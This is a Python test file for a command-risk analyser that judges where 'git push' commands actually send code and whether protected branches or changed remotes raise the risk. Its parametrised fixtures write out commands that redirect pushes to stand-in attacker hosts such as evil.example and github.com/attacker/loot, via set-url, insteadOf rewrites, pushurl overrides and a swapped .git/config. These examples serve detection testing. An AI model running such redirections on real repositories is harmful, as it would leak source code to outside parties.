"""Pushes with what the observer found: where they really go, what is pinned, and what an earlier command spoils."""

from collections.abc import Mapping

import pytest
from tests.support.programs import HOME, WORKSPACE, World, command, effects

from mayact.core.analysis.catalogue import Catalogue
from mayact.core.analysis.plan import (
    Answer,
    Found,
    HeadBranch,
    Missing,
    PushDefault,
    PushUrls,
    Question,
    RefId,
    RepoRoot,
    Unavailable,
)
from mayact.core.analysis.programs import findings_of
from mayact.core.analysis.risk import judge
from mayact.core.model import Effect, Risk, Verb

_CATALOGUE = Catalogue.from_json(
    {
        "include": ["well-known"],
        "hosts": {"git.example.com": {"owner": "platform", "boundary": "own"}},
        "repositories": {"git.example.com/team/app": {"protected_branches": ["deploy"]}},
    }
)


def _urls(answer: Answer, remote: str = "origin") -> dict[Question, Answer]:
    return {PushUrls(WORKSPACE, remote, home=HOME): answer, RepoRoot(WORKSPACE): Found(WORKSPACE)}


def _push(*words: str, answers: Mapping[Question, Answer]) -> tuple[Effect, ...]:
    return effects(["git", "push", *words], world=World(answers), catalogue=_CATALOGUE)


def test_an_ordinary_branch_to_a_listed_host_is_medium() -> None:
    (effect,) = _push("origin", "topic", answers=_urls(Found("https://git.example.com/team/app.git")))
    assert effect.risk is Risk.MEDIUM
    assert effect.facts["host"] == "git.example.com"
    assert effect.facts["owner"] == "platform"
    assert effect.facts["protected"] is False


@pytest.mark.requirement("AUTHZ-4")
def test_configuration_that_sends_a_push_elsewhere_is_seen() -> None:
    (effect,) = _push("origin", "topic", answers=_urls(Found("https://evil.example/x")))
    assert effect.risk is Risk.HIGH
    assert effect.facts["host"] == "evil.example"
    assert effect.facts["listed"] is False


def test_every_address_of_a_remote_counts() -> None:
    found = _push("origin", "topic", answers=_urls(Found("https://github.com/a/b https://evil.example/x")))
    assert {effect.facts["host"] for effect in found} == {"github.com", "evil.example"}
    assert max(effect.risk.rank for effect in found) == Risk.HIGH.rank


def test_an_address_on_the_command_line_is_rewritten_too() -> None:
    url = "https://github.com/a/b"
    (effect,) = _push(url, "topic", answers=_urls(Found("https://evil.example/x"), remote=url))
    assert effect.facts["host"] == "evil.example"


@pytest.mark.requirement("AUTHZ-6")
@pytest.mark.parametrize("answer", [Missing(), Unavailable("locked")])
def test_a_remote_that_was_looked_for_in_vain_is_the_worst_case(answer: Answer) -> None:
    (effect,) = _push("origin", "topic", answers=_urls(answer))
    assert effect.risk is Risk.HIGH


def test_a_branch_that_its_repository_protects_is_protected() -> None:
    answers = _urls(Found("git@git.example.com:team/app.git"))
    (effect,) = _push("origin", "deploy", answers=answers)
    assert effect.facts["protected"] is True
    assert effect.risk is Risk.HIGH


@pytest.mark.parametrize(("branch", "risk"), [("topic", Risk.MEDIUM), ("main", Risk.HIGH)])
def test_head_is_the_branch_that_is_checked_out(branch: str, risk: Risk) -> None:
    answers = {**_urls(Found("https://github.com/a/b")), HeadBranch(WORKSPACE): Found(branch)}
    (effect,) = _push("origin", "HEAD", answers=answers)
    assert (effect.facts["ref"], effect.risk) == (branch, risk)


def test_without_refspec_the_repository_says_what_is_pushed() -> None:
    answers = {
        PushDefault(WORKSPACE, "", home=HOME): Found("fork topic:main"),
        **_urls(Found("https://github.com/a/b"), remote="fork"),
    }
    (effect,) = _push(answers=answers)
    assert (effect.facts["remote"], effect.facts["ref"]) == ("fork", "main")
    assert effect.facts["protected"] is True


@pytest.mark.requirement("APPR-1")
def test_the_commit_that_is_pushed_and_the_address_are_asked_for() -> None:
    world = World({RepoRoot(WORKSPACE): Found("/top")})
    effects(["git", "push", "origin", "topic:main"], world=world)
    assert RefId("/top", "topic") in world.asked
    assert PushUrls("/top", "origin", home=HOME) in world.asked


def _line(*commands: list[str], answers: Mapping[Question, Answer]) -> tuple[Effect, ...]:
    context = World(answers).context()
    found = [item for argv in commands for item in findings_of(command(argv), context)]
    return tuple(effect for effect in judge(found, catalogue=_CATALOGUE) if effect.verb is Verb.GIT_PUSH)


@pytest.mark.requirement("AUTHZ-6")
@pytest.mark.parametrize(
    "first",
    [
        ["git", "remote", "set-url", "origin", "https://evil.example/x"],
        ["git", "remote", "add", "-f", "origin", "https://evil.example/x"],
        ["git", "config", "url.https://evil.example/.insteadOf", "https://github.com/"],
        ["git", "config", "--global", "remote.origin.pushurl", "https://evil.example/x"],
        ["cp", "prepared", ".git/config"],
    ],
)
def test_what_was_observed_before_a_change_of_remotes_no_longer_counts(first: list[str]) -> None:
    answers = _urls(Found("https://github.com/a/b"))
    (alone,) = _line(["git", "push", "origin", "topic"], answers=answers)
    (after,) = _line(first, ["git", "push", "origin", "topic"], answers=answers)
    assert alone.risk is Risk.MEDIUM
    assert after.risk is Risk.HIGH
    assert after.facts["host"] == ""
    assert "url" not in after.facts


@pytest.mark.requirement("AUTHZ-6")
def test_head_after_a_checkout_is_not_the_branch_that_was_observed() -> None:
    answers = {**_urls(Found("https://github.com/a/b")), HeadBranch(WORKSPACE): Found("topic")}
    (after,) = _line(["git", "checkout", "main"], ["git", "push", "origin", "HEAD"], answers=answers)
    assert after.facts["protected"] is True
    assert after.risk is Risk.HIGH


def test_facts_for_the_risk_table_alone_do_not_reach_policy() -> None:
    found = effects(["git", "push", "origin", "topic"])
    assert found
    assert [key for effect in found for key in effect.facts if key.startswith("_")] == []


@pytest.mark.requirement("AUTHZ-4", "AUTHZ-6")
def test_only_an_address_that_the_configuration_names_is_configured() -> None:
    url = "https://github.com/attacker/loot"
    (named,) = _push("origin", "topic", answers=_urls(Found("https://github.com/a/b")))
    (given,) = _push(url, "HEAD:x", answers=_urls(Found(url), remote=url))
    (path,) = _push("a/b", "HEAD:x", answers=_urls(Found("a/b"), remote="a/b"))
    (absent,) = _push("origin", "topic", answers=_urls(Missing()))
    found = [effect.facts["configured"] for effect in (named, given, path, absent)]
    assert found == [True, False, False, False]


@pytest.mark.requirement("AUTHZ-6")
def test_after_a_change_of_remotes_none_is_configured() -> None:
    url = "https://github.com/attacker/loot"
    (after,) = _line(
        ["git", "remote", "set-url", "origin", url],
        ["git", "push", "origin", "topic"],
        answers=_urls(Found("https://github.com/a/b")),
    )
    assert after.facts["configured"] is False
